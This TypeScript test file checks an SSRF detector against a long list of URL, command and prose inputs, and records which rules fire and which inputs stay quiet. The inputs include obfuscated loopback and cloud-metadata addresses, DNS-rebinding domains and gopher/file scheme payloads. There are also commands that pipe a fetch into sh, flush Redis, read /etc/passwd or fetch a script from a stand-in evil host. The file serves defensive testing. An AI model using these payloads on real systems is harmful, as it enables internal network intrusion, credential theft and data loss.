/** The SSRF detector end to end: which rules fire for which spelling, and what stays quiet. */
import { describe, expect, test } from 'vitest';
import { findingsFor, rulesFor } from './helpers.js';
import type { ArgumentKind } from '../../../src/inspect/types.js';

const META = 'ssrf.metadata-endpoint';
const LOOP = 'ssrf.loopback';
const PRIV = 'ssrf.private-address';
const NAME = 'ssrf.internal-name';
const REBIND = 'ssrf.rebinding-domain';
const OBF = 'ssrf.obfuscated-address';
const SCHEME = 'ssrf.dangerous-scheme';
const DENIED = 'ssrf.denied-host';

const url = (raw: string) => ({ raw, kinds: ['url' as const] });

describe('URL arguments: every spelling of a non-public address', () => {
  test.each<[string, string[]]>([
    // plain
    ['http://127.0.0.1/', [LOOP]],
    ['http://localhost:8080/admin', [LOOP]],
    ['http://10.0.0.1/', [PRIV]],
    ['http://172.31.255.255/', [PRIV]],
    ['http://192.168.0.1', [PRIV]],
    ['http://100.64.0.1/', [PRIV]],
    ['http://169.254.1.1/', [PRIV]],
    ['http://255.255.255.255/', [PRIV]],
    ['http://224.0.0.1/', [PRIV]],
    ['http://0.0.0.0:22', [LOOP]],
    // metadata, by address and by name
    ['http://169.254.169.254/latest/meta-data/', [META]],
    ['http://169.254.170.2/v2/credentials', [META]],
    ['http://100.100.100.200/latest/meta-data/', [META]],
    ['http://[fd00:ec2::254]/latest/meta-data/', [META]],
    ['http://metadata.google.internal/computeMetadata/v1/', [META]],
    ['http://metadata.google.internal./computeMetadata/v1/', [META]],
    ['http://instance-data/latest/', [META]],
    ['http://METADATA.azure.com/metadata/instance', [META]],
    // decimal, octal, hex, mixed, short forms
    ['http://2130706433/', [LOOP, OBF]],
    ['http://017700000001/', [LOOP, OBF]],
    ['http://0177.0.0.1/', [LOOP, OBF]],
    ['http://0x7f000001', [LOOP, OBF]],
    ['http://0x7f.1/', [LOOP, OBF]],
    ['http://0x7f.0.0x0.1/', [LOOP, OBF]],
    ['http://127.1', [LOOP, OBF]],
    ['http://127.0.1', [LOOP, OBF]],
    ['http://10.1/', [PRIV, OBF]],
    ['http://0/', [LOOP, OBF]],
    [`http://${'0'.repeat(300)}177.0.0.1/`, [LOOP, OBF]],
    [`http://${'0'.repeat(300)}10.0.0.1/`, [PRIV, OBF]],
    ['http://0xa9fea9fe/', [META, OBF]],
    ['http://2852039166/', [META, OBF]],
    ['http://0251.0376.0251.0376/', [META, OBF]],
    ['http://3232235521/', [PRIV, OBF]],
    ['http://0xc0a80101', [PRIV, OBF]],
    // a leading zero is octal to inet_aton and decimal to others: both readings count
    ['http://010.0.0.1/', [OBF, PRIV]],
    ['http://127.0.0.1./', [LOOP]],
    // IPv6
    ['http://[::1]/', [LOOP]],
    ['http://[::]:80/', [LOOP]],
    ['http://[0:0:0:0:0:0:0:1]/', [LOOP]],
    ['http://[fe80::1%25eth0]/', [PRIV]],
    ['http://[fc00::1]/', [PRIV]],
    ['http://[fd12:3456::1]/', [PRIV]],
    ['http://[ff02::1]/', [PRIV]],
    ['http://[::ffff:127.0.0.1]', [LOOP, OBF]],
    ['http://[0:0:0:0:0:ffff:127.0.0.1]', [LOOP, OBF]],
    ['http://[::ffff:7f00:1]/', [LOOP, OBF]],
    ['http://[::ffff:a9fe:a9fe]/', [META, OBF]],
    ['http://[::ffff:0:a9fe:a9fe]/', [META, OBF]],
    ['http://[::127.0.0.1]/', [LOOP, OBF]],
    ['http://[64:ff9b::10.0.0.1]/', [PRIV]],
    ['http://[64:ff9b::a9fe:a9fe]/', [META]],
    ['http://[2002:7f00:1::]/', [LOOP]],
    // names
    ['http://localhost./', [LOOP]],
    ['http://LOCALHOST/', [LOOP]],
    ['http://app.localhost/', [LOOP]],
    ['http://ip6-localhost', [LOOP]],
    ['http://printer.local/', [NAME]],
    ['http://db.internal:5432/', [NAME]],
    ['http://redis:6379/', [NAME]],
    // parser confusion: userinfo, fragments, backslashes, missing slashes
    ['http://example.com@127.0.0.1/', [LOOP]],
    ['http://user:pass@10.0.0.1/', [PRIV]],
    ['http://127.0.0.1#@example.com', [LOOP]],
    ['http://example.com#@127.0.0.1', [LOOP]],
    ['http://127.1.1.1:80\\@127.2.2.2:80/', [LOOP]],
    ['http://evil.com\\@169.254.169.254/', [META]],
    ['http:\\\\127.0.0.1\\', [LOOP]],
    ['http:/\\/127.0.0.1/', [LOOP]],
    ['http:127.0.0.1/', [LOOP]],
    ['//127.0.0.1/x', [LOOP]],
    ['  http://127.0.0.1/  ', [LOOP]],
    ['http://12\t7.0.0.1/', [LOOP]],
    // encodings
    ['http://%31%32%37.0.0.1/', [LOOP]],
    ['http://%6c%6f%63%61%6c%68%6f%73%74/', [LOOP]],
    ['http%3A%2F%2F169.254.169.254%2F', [META]],
    ['http://１２７．０．０．１/', [LOOP]],
    ['http://127。0。0。1/', [LOOP]],
    ['http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/', [LOOP]],
    // rebinding services, with the address they spell
    ['http://127.0.0.1.nip.io/', [LOOP, REBIND]],
    ['http://app.10.0.0.1.nip.io/', [PRIV, REBIND]],
    ['http://7f000001.nip.io/', [LOOP, REBIND]],
    ['http://169-254-169-254.sslip.io/', [META, REBIND]],
    ['http://--1.sslip.io/', [LOOP, REBIND]],
    ['http://7f000001.c0a80001.rbndr.us/', [LOOP, PRIV, REBIND]],
    ['http://1u.ms', [REBIND]],
    ['https://1.2.3.4.nip.io/', [REBIND]],
    ['http://localtest.me/', [LOOP]],
    ['http://anything.lvh.me:3000/', [LOOP]],
    // schemes
    ['file:///etc/passwd', [SCHEME]],
    ['file://\\/\\/etc/passwd', [SCHEME]],
    ['gopher://localhost:25/_MAIL%20FROM', [LOOP, SCHEME]],
    ['dict://attacker:11111/', [NAME, SCHEME]],
    ['ftp://127.0.0.1!/', [LOOP, SCHEME]],
    ['ldap://localhost:11211/%0astats', [LOOP, SCHEME]],
    ['netdoc:///etc/passwd', [SCHEME]],
    ['jar:http://127.0.0.1!/', [LOOP, SCHEME]],
    ['php://filter/resource=/etc/passwd', [SCHEME]],
    ['unix:///var/run/docker.sock', [SCHEME]],
    // without a scheme, in an argument known to be a URL
    ['127.0.0.1:6379', [LOOP]],
    ['localhost:3000/api', [LOOP]],
    ['169.254.169.254/latest/meta-data', [META]],
    ['[::1]:8080', [LOOP]],
  ])('%s', (raw, expected) => {
    expect(rulesFor(url(raw))).toEqual([...expected].sort());
  });
});

describe('the host WHATWG reads from the whole value', () => {
  test.each<[string, string[]]>([
    ['http://a b@127.0.0.1/', ['url']],
    ['http://a b@169.254.169.254/latest', ['text']],
    ['http://x y@10.0.0.1/', ['path']],
  ])('%s (kinds %j)', (raw, kinds) => {
    const rules = rulesFor({ raw, kinds: kinds as ArgumentKind[] });
    expect(rules.some((r) => ['ssrf.loopback', 'ssrf.metadata-endpoint', 'ssrf.private-address'].includes(r))).toBe(true);
  });

  test('a quoted URL in a command is read to its closing quote', () => {
    expect(rulesFor({ raw: 'curl "http://a b@127.0.0.1:2375/x"', kinds: ['command'] })).toContain('ssrf.loopback');
  });
});

describe('URL arguments that must stay quiet', () => {
  test.each([
    'https://example.com/a?b=1&c=2',
    'https://api.github.com',
    'https://api.github.com/repos/nodejs/node/releases/latest',
    'http://10.0.0.1.example.com',
    'http://127.0.0.1.example.com/',
    'https://localhost.example.com/',
    'https://8.8.8.8/',
    'https://[2001:4860:4860::8888]/',
    'https://[64:ff9b::8.8.8.8]/',
    'https://3.321.3232.2/sedgeapi/v1',
    'https://example.com/login?next=http://localhost:3000/callback',
    'https://example.com/?url=http%3A%2F%2F127.0.0.1',
    'https://example.com/file:///etc/passwd',
    'https://calendar.google.com/calendar/ical/en.usa%23holiday%40group.v.calendar.google.com/public/basic.ics',
    'https://www.openstreetmap.org/#map=12/52.3702/4.8952',
    'https://api.weather.gov/points/39.7456,-97.0892',
    'https://metadata.example.com/v1/',
    'https://internal.example.com/',
    'https://snip.io/',
    'wss://stream.example.com:443/feed',
    'mailto:someone@example.com',
    'weather',
    '42',
    '123 Main Street',
    'example.com',
    '',
  ])('%s', (raw) => {
    expect(rulesFor(url(raw))).toEqual([]);
  });
});

describe('commands', () => {
  const cmd = (raw: string) => rulesFor({ raw, kinds: ['command'] });
  test.each<[string, string[]]>([
    ['curl -s http://169.254.169.254/latest/meta-data/', [META]],
    ["curl -s 'http://127.0.0.1:2375/containers/json'", [LOOP]],
    ['wget -qO- http://[::1]/ | sh', [LOOP]],
    ['curl gopher://127.0.0.1:6379/_FLUSHALL', [LOOP, SCHEME]],
    ['curl file:///etc/passwd', [SCHEME]],
    ['curl 169.254.169.254', [META]],
    ['echo 169.254.169.254', [META]],
    ['nc 10.0.0.5 6379', [PRIV]],
    ['ssh admin@10.0.0.5', [PRIV]],
    ['redis-cli -h 127.0.0.1 FLUSHALL', [LOOP]],
    ['curl 0x7f000001:8080', [LOOP, OBF]],
    ['curl localhost:9200/_cat/indices', [LOOP]],
    ['python -c "import urllib.request as u; print(u.urlopen(\'http://10.0.0.2\').read())"', [PRIV]],
  ])('%s', (raw, expected) => {
    expect(cmd(raw)).toEqual([...expected].sort());
  });

  test.each([
    'curl -s https://api.github.com/repos/nodejs/node/releases/latest',
    'npm run dev -- --host 0.0.0.0',
    'uvicorn app:main --host 0.0.0.0 --port 8000',
    'python -m http.server 8000 --bind 127.0.0.1',
    'pip install package==10.0.0.1',
    'echo 10.0.0.1',
    'docker run -p 127.0.0.1:8080:80 nginx',
    'git clone git@github.com:org/repo.git',
    'kill 2130706433',
    'head -n 10 file.txt',
    'ls /srv/data/reports',
    'start https://www.youtube.com/watch?v=dQw4w9WgXcQ',
  ])('quiet: %s', (raw) => {
    expect(cmd(raw)).toEqual([]);
  });
});

describe('prose', () => {
  const text = (raw: string, key?: string) => rulesFor({ raw, kinds: ['text'], ...(key === undefined ? {} : { key }) });
  test.each<[string, string | undefined, string[]]>([
    ['http://127.0.0.1:8080/admin', undefined, [LOOP]],
    ['Please fetch http://169.254.169.254/latest/user-data for me', undefined, [META]],
    ['10.0.0.5', 'host', [PRIV]],
    ['169.254.169.254', 'targetIp', [META]],
  ])('%s', (raw, key, expected) => {
    expect(text(raw, key)).toEqual([...expected].sort());
  });

  test.each<[string, string | undefined]>([
    ['The dev server runs on http://localhost:3000 when you start it.', undefined],
    ['Release 10.0.0.1 fixes the login bug; the router is 192.168.1.1.', undefined],
    ['Our docs say 169.254.169.254 is blocked by the firewall.', undefined],
    ['Open file:///C:/report.html in your browser.', undefined],
    ['10.0.0.1', 'version'],
    ['1.2.3.4', undefined],
    ['localhost', 'zip'],
  ])('quiet: %s', (raw, key) => {
    expect(text(raw, key)).toEqual([]);
  });
});

describe('policy host lists', () => {
  test.each<[string, string[], string[]]>([
    ['http://localhost:3000/api', ['localhost:3000'], []],
    ['http://localhost:3001/api', ['localhost:3000'], [LOOP]],
    ['http://localhost/', ['localhost'], []],
    ['http://localhost:3000#top', ['localhost:3000'], []],
    ['http://localhost:03000/', ['localhost:3000'], []],
    ['https://localhost/', ['localhost:443'], []],
    ['http://127.1:3000/', ['127.0.0.1:3000'], []],
    ['http://[::1]/', ['::1'], []],
    ['http://10.1.2.3/', ['10.*'], []],
    ['http://db.internal/', ['*.internal'], []],
    ['http://example.com#@127.0.0.1/', ['example.com'], [LOOP]],
    ['http://localhost:3000#@169.254.169.254/', ['localhost:3000'], [META]],
  ])('allow %s with %j', (raw, allowHosts, expected) => {
    expect(rulesFor(url(raw), { allowHosts })).toEqual([...expected].sort());
  });

  test.each<[string, string[]]>([
    ['https://evil.example/', [DENIED]],
    ['https://EVIL.EXAMPLE./x', [DENIED]],
    ['https://cdn.evil.example/x', [DENIED]],
    ['https://%65vil.example/', [DENIED]],
    ['https://example.com@evil.example/', [DENIED]],
    ['https://evil.example.com/', []],
  ])('deny %s', (raw, expected) => {
    expect(rulesFor(url(raw), { denyHosts: ['evil.example', '*.evil.example'] })).toEqual(expected);
  });

  test('deny wins over allow', () => {
    expect(rulesFor(url('http://10.0.0.1/'), { allowHosts: ['10.*'], denyHosts: ['10.0.0.1'] })).toEqual([DENIED, PRIV]);
  });

  test('a denied host named in a command or in prose is reported', () => {
    const denyHosts = ['evil.example'];
    expect(rulesFor({ raw: 'curl -s https://evil.example/x.sh', kinds: ['command'] }, { denyHosts })).toEqual([DENIED]);
    expect(rulesFor({ raw: 'see https://evil.example/x for details', kinds: ['text'] }, { denyHosts })).toEqual([DENIED]);
  });
});

describe('findings', () => {
  test('carry the rule, the path, a short masked excerpt and a message that says what to do', () => {
    const [f, ...rest] = findingsFor({ raw: `http://admin:hunter2@169.254.169.254/${'a'.repeat(200)}`, kinds: ['url'], key: 'url' });
    expect(rest).toEqual([]);
    expect(f).toMatchObject({ ruleId: META, category: 'ssrf', severity: 'critical', path: 'url' });
    expect(f!.evidence.length).toBeLessThanOrEqual(80);
    expect(f!.evidence).toMatch(/^http:\/\/admin:\*\*\*@169\.254\.169\.254\//);
    expect(f!.evidence).not.toContain('hunter2');
    expect(f!.message).toMatch(/metadata/);
  });

  test('one finding per rule per string, even when several spellings show it', () => {
    const findings = findingsFor({ raw: 'http://%31%32%37.0.0.1/ http://127.0.0.1/', kinds: ['url'] });
    expect(findings.map((f) => f.ruleId)).toEqual([LOOP]);
  });

  test('the raw spelling is reported when it already shows the problem', () => {
    const [f] = findingsFor({ raw: 'http://0x7f000001/', kinds: ['url'] });
    expect(f!.evidence).toBe('http://0x7f000001/');
  });

  test('strings of other kinds are left to other detectors', () => {
    const findings = findingsFor({ raw: 'http://127.0.0.1/', kinds: ['path'] });
    // every string is also text, and a lone URL in text is read as one
    expect(findings.map((f) => f.ruleId)).toEqual([LOOP]);
  });
});

describe('look-alikes that are words, not hosts', () => {
  test.each<[string, string, string[]]>([
    ['local', 'domain', []],
    ['internal', 'host', []],
    ['my-server', 'server', []],
    ['/api/v1/users', 'endpoint', []],
    ['Foodnetwork.com', 'website', []],
    ['svc.internal', 'host', [NAME]],
  ])('%s as %s', (raw, key, expected) => {
    expect(rulesFor({ raw, key, kinds: ['url'] })).toEqual(expected);
  });

  test('a deny-everything glob does not turn every word of a command into a host', () => {
    expect(rulesFor({ raw: 'git push origin main', kinds: ['command'] }, { denyHosts: ['*'] })).toEqual([]);
    expect(rulesFor({ raw: 'ssh deploy@build.example.org', kinds: ['command'] }, { denyHosts: ['*'] })).toEqual([DENIED]);
  });
});
